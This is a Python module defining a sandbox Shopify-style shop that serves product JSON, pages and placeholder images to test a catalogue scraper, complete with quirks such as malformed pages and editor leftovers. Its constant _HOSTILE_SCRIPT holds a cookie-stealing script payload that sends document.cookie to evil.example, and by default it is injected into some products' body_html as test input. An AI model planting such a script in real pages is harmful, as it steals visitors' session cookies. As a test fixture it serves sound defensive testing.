"""Curio Corner, a sandbox Shopify shop (platform key ``sandbox-shopify``).

The shop sells the corpus listings priced in its one currency (USD by default), as
products with a unique ``handle``; its vendors are the corpus sellers. Like every
Shopify storefront it serves its catalogue as JSON without saying the currency.

Routes (GET and HEAD):

- ``/products.json?limit=N&page=P``: ``{"products": [...]}``, oldest product first,
  ``limit`` 30 by default and at most 250; a page past the end is
  ``{"products": []}``. Each product has ``id``, ``title``, ``handle``, ``body_html``,
  ``vendor``, ``product_type``, ``created_at`` (in the shop's time zone, UTC-4),
  ``tags``, ``variants`` (``price`` a string such as ``"12.50"``, ``available``) and
  ``images`` (``src``). A malformed ``limit`` or ``page`` is a 400;
- ``/products/<handle>.json``: ``{"product": {...}}``; ``/products/<handle>``: its page;
- ``/cdn/shop/files/<handle>_<n>.svg``: product photos; ``/robots.txt``.

Some products have a second, dearer variant (a bundle) listed after the first; some
``body_html`` carries the editor's leftovers (``<meta>``, ``<span data-mce-...>``)
and, with ``hostile=True``, a ``<script>``: none of it is visible text.
"""

from __future__ import annotations

import html
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from sandbox.api_common import json_response, listing_hashtags, malformed_json, slug
from sandbox.corpus import Corpus, SandboxListing
from sandbox.market import placeholder_svg
from sandbox.server import Request, Response, Router

__all__ = [
    "DEFAULT_LIMIT",
    "MAX_LIMIT",
    "PLATFORM",
    "ROBOTS_TXT",
    "SHOP_TIMEZONE",
    "Product",
    "ShopifySite",
]

PLATFORM = "sandbox-shopify"
DEFAULT_LIMIT = 30
MAX_LIMIT = 250
SHOP_TIMEZONE = timezone(timedelta(hours=-4))
ROBOTS_TXT = (
    "User-agent: *\nDisallow: /admin\nDisallow: /cart\nDisallow: /orders\n"
    "Disallow: /checkouts/\nDisallow: /account\nDisallow: /search\n"
)
_EDITOR_LEFTOVERS = '<meta charset="utf-8"><span data-mce-fragment="1"></span>'
_HOSTILE_SCRIPT = "<script>window.location='https://evil.example/?'+document.cookie</script>"


@dataclass(frozen=True)
class Product:
    """One product of the shop: a corpus listing with its shop id and handle."""

    id: int
    handle: str
    listing: SandboxListing
    vendor: str
    bundle: bool  # has a second variant, five for the price of 4.5
    available: bool
    hostile: bool

    @property
    def price(self) -> Decimal:
        """The first variant's price (the listing's)."""
        return self.listing.price

    @property
    def created_at(self) -> datetime:
        return self.listing.posted_at

    def url(self, base_url: str) -> str:
        return f"{base_url}/products/{quote(self.handle, safe='')}"

    def image_urls(self, base_url: str) -> list[str]:
        name = quote(self.handle, safe="")
        return [
            f"{base_url}/cdn/shop/files/{name}_{n}.svg?v=1700000000"
            for n in range(1, self.listing.image_count + 1)
        ]


class ShopifySite:
    """The Curio Corner shop over one corpus; a `sandbox.server.Site`.

    `currency` picks the listings the shop sells (None: the corpus's most common
    currency); `malformed_pages` are page numbers of ``/products.json`` sent as
    truncated JSON.
    """

    name = "Curio Corner"
    platform = PLATFORM

    def __init__(
        self,
        corpus: Corpus,
        *,
        currency: str | None = "USD",
        hostile: bool = True,
        malformed_pages: Iterable[int] = (),
    ) -> None:
        self.corpus = corpus
        self.currency = (
            currency or Counter(x.currency for x in corpus.listings).most_common(1)[0][0]
        )
        sold = sorted(
            (x for x in corpus.listings if x.currency == self.currency),
            key=lambda x: (x.posted_at, x.listing_id),
        )
        handles: set[str] = set()
        products = []
        for number, listing in enumerate(sold, start=1):
            handle = slug(listing.title, keep_unicode=True)[:80].strip("-") or "product"
            if handle in handles:
                handle = f"{handle}-{number}"
            handles.add(handle)
            products.append(
                Product(
                    id=7_400_000_000_000 + number * 7919,
                    handle=handle,
                    listing=listing,
                    vendor=corpus.sellers_by_id[listing.seller_id].name,
                    bundle=number % 4 == 1,
                    available=number % 5 != 2,
                    hostile=hostile and number % 6 == 5,
                )
            )
        #: Every product, in the order products.json lists them.
        self.products: tuple[Product, ...] = tuple(products)
        self.by_handle = {p.handle: p for p in self.products}
        self.malformed_pages = frozenset(malformed_pages)
        self.router = Router()
        self.router.add(r"/products\.json", self.products_json)
        self.router.add(r"/products/(?P<handle>[^/]+)\.json", self.product_json)
        self.router.add(r"/products/(?P<handle>[^/]+)", self.product_page)
        self.router.add(r"/cdn/shop/files/(?P<handle>[^/]+)_(?P<n>[0-9]+)\.svg", self.image)
        self.router.add(r"/robots\.txt", lambda request: Response.text(ROBOTS_TXT))

    def handle(self, request: Request) -> Response:
        response = self.router.dispatch(request)
        if response is None:
            return Response.html("<h1>404 Page Not Found</h1>", 404)
        return response

    # -- routes

    def products_json(self, request: Request) -> Response:
        """One page of the catalogue; past the end, an empty list."""
        try:
            limit = int(request.arg("limit") or DEFAULT_LIMIT)
            page = int(request.arg("page") or 1)
        except ValueError:
            return json_response({"errors": {"page": "expected a whole number"}}, 400)
        limit = min(max(limit, 1), MAX_LIMIT)
        if page < 1:
            return json_response({"errors": {"page": "must be at least 1"}}, 400)
        shown = self.products[(page - 1) * limit : page * limit]
        data = {"products": [self._product(request.base_url, p) for p in shown]}
        if page in self.malformed_pages:
            return malformed_json(data)
        return json_response(data)

    def product_json(self, request: Request, handle: str) -> Response:
        product = self.by_handle.get(handle)
        if product is None:
            return json_response({"errors": "Not Found"}, 404)
        return json_response({"product": self._product(request.base_url, product)})

    def product_page(self, request: Request, handle: str) -> Response:
        product = self.by_handle.get(handle)
        if product is None:
            return Response.html("<h1>404 Page Not Found</h1>", 404)
        listing = product.listing
        images = "".join(
            f'<img src="{html.escape(u)}" alt="">' for u in product.image_urls(request.base_url)
        )
        return Response.html(
            f'<!doctype html><html lang="{listing.language}"><head><meta charset="utf-8">'
            f"<title>{html.escape(listing.title)} – {html.escape(self.name)}</title></head>"
            f'<body><h1 class="product__title">{html.escape(listing.title)}</h1>'
            f'<p class="price">{listing.price:.2f} {self.currency}</p>'
            f'<div class="product__description">{html.escape(listing.description)}</div>'
            f"{images}</body></html>"
        )

    def image(self, request: Request, handle: str, n: str) -> Response:
        product = self.by_handle.get(handle)
        if product is None or str(int(n)) != n or not 1 <= int(n) <= product.listing.image_count:
            return Response.html("<h1>404 Page Not Found</h1>", 404)
        body = placeholder_svg(product.listing.listing_id, int(n)).encode("utf-8")
        return Response(200, body, "image/svg+xml", (("Cache-Control", "max-age=86400"),))

    # -- rendering

    def _product(self, base_url: str, product: Product) -> dict[str, Any]:
        listing = product.listing
        stamp = product.created_at.astimezone(SHOP_TIMEZONE).isoformat()
        body = f"<p>{html.escape(listing.description)}</p>"
        if product.id % 3 == 0:
            body = f"{_EDITOR_LEFTOVERS}{body}"
        if product.hostile:
            body = f"{body}{_HOSTILE_SCRIPT}"
        variants = [self._variant(product, 1, "Default Title", listing.price, product.available)]
        if product.bundle:
            bundle_price = (listing.price * Decimal("4.5")).quantize(Decimal("0.01"))
            variants.append(self._variant(product, 2, "Bundle of 5", bundle_price, True))
        return {
            "id": product.id,
            "title": listing.title,
            "handle": product.handle,
            "body_html": body,
            "published_at": stamp,
            "created_at": stamp,
            "updated_at": stamp,
            "vendor": product.vendor,
            "product_type": listing.product.replace("_", " ").title(),
            "tags": listing_hashtags(listing),
            "variants": variants,
            "images": [
                {
                    "id": product.id * 10 + n,
                    "position": n,
                    "product_id": product.id,
                    "src": src,
                    "width": 320,
                    "height": 240,
                }
                for n, src in enumerate(product.image_urls(base_url), start=1)
            ],
            "options": [{"name": "Title", "position": 1, "values": [v["title"] for v in variants]}],
        }

    @staticmethod
    def _variant(
        product: Product, position: int, title: str, price: Decimal, available: bool
    ) -> dict[str, Any]:
        return {
            "id": product.id * 100 + position,
            "title": title,
            "option1": title,
            "sku": f"{product.listing.listing_id}-{position}",
            "requires_shipping": True,
            "taxable": True,
            "available": available,
            "price": f"{price:.2f}",
            "compare_at_price": None,
            "grams": 0,
            "position": position,
            "product_id": product.id,
        }
